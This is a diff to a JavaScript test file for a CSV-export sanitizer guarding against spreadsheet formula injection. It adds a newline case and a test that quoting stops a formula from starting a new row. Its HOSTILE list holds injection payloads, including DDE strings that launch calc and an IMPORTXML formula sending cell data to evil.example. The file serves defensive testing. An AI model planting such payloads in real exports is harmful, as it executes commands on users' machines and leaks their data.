@@ -13,6 +13,7 @@ const HOSTILE = [
   '@SUM(1+1)*cmd|\' /C calc\'!A0',
   '\t=1+1',
   '\r=1+1',
+  '\n=1+1',
   '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
   '=cmd|"/c calc"!A1,',
 ];
@@ -36,7 +37,15 @@ describe('toSafeCsv', () => {
     expect(parsed.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((s) => `'${s}`));
     expect(parsed.slice(1).every((r) => r[2] === 'a, "quoted"\nline')).toBe(true);
     // No line of the file starts a cell with a formula character.
-    for (const r of parsed) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const r of parsed) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
+  });
+
+  it('quotes every cell holding a bare CR or LF, so no line of the file starts a row with a live formula', () => {
+    // Neither cell has a comma or a quote: csv-stringify used to leave them bare, and a spreadsheet
+    // read `=1+1` after the line break as the first cell of a new row.
+    const text = toSafeCsv(['actor', 'entity_id'], [{ actor: 'ops\n=1+1', entity_id: 'x\r=2+2' }]);
+    expect(text).toBe('actor,entity_id\r\n"ops\n=1+1","x\r=2+2"\r\n');
+    expect(parse(text, { columns: true })).toEqual([{ actor: 'ops\n=1+1', entity_id: 'x\r=2+2' }]);
   });
 
   it('keeps numbers as numbers (a negative count is not a formula) and writes dates as UTC ISO', () => {
